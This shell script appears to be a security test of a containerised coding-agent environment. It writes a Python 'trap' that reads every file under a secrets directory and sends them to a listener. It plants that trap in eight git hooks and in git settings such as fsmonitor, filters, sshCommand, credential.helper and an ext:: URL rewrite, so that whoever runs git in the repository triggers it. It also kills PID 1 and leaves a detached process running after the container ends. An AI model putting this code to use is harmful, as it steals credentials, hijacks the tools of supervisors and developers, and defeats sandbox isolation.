# Leaves a program wherever a careless git would run it. It tells the story's listener where it ran.
set -eu
# Announces the end of the container in the kubelet's name, and leaves somebody behind who works on when it is over.
kill -TERM 1
setsid sh -c 'while kill -0 '$$' 2>/dev/null; do sleep 0.1; done; sleep 0.5; echo late > late.txt' &
cat > "$HOME/trap" <<'END'
#!/usr/bin/env python3
import os, socket
secrets = "/var/secrets/codexk8s"
loot = [open(os.path.join(secrets, name)).read() for name in os.listdir(secrets)] if os.path.isdir(secrets) else []
place = "supervisor" if os.path.isdir(secrets) else "agent"
with socket.create_connection(("127.0.0.1", LISTENER), timeout=3) as to:
    to.sendall(f"{place} {os.getuid()} {loot}\n".encode())
END
chmod +x "$HOME/trap"
"$HOME/trap"
for hook in pre-commit post-commit pre-push reference-transaction post-checkout post-update update pre-receive; do
    cp "$HOME/trap" .git/hooks/$hook
done
git config core.fsmonitor "$HOME/trap"
git config core.hooksPath .git/hooks
git config filter.evil.clean "$HOME/trap; cat"
git config filter.evil.smudge "$HOME/trap; cat"
git config diff.external "$HOME/trap"
git config core.sshCommand "$HOME/trap"
git config credential.helper "!$HOME/trap"
git config uploadpack.packObjectsHook "$HOME/trap"
git config url."ext::$HOME/trap ".insteadOf http
printf '* filter=evil diff=evil\n' > .gitattributes
echo fine > file.txt
